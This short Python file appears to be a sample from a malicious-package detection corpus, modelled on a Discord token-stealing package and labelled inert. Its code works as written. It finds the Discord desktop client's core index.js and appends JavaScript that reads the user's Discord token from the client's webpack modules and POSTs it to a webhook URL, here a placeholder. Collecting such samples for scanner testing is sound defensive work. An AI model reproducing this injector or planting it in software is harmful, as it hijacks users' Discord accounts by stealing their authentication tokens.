# pkgguard corpus 341 (discord-token), modelled on [discordpydebug]; inert, never run.
import glob
import os

HOOK = "https://discord.com/api/webhooks/000000000000000000/placeholder-placeholder-placeholder"
INJECT = (
    "const w=require('electron').BrowserWindow;"
    "w.getAllWindows()[0].webContents.executeJavaScript("
    "`(webpackChunkdiscord_app.push([[''],{},e=>{m=[];for(let c in e.c)m.push(e.c[c])}]),m)"
    ".find(m=>m?.exports?.default?.getToken).exports.default.getToken()`)"
    ".then(t=>fetch('" + HOOK + "',{method:'POST',headers:{'Content-Type':'application/json'},"
    "body:JSON.stringify({content:t})}));\n"
)
base = os.path.join(os.getenv("LOCALAPPDATA", ""), "Discord")
for index in glob.glob(os.path.join(base, "app-*", "modules", "discord_desktop_core-*", "discord_desktop_core", "index.js")):
    with open(index, "a", encoding="utf-8") as f:
        f.write(INJECT)
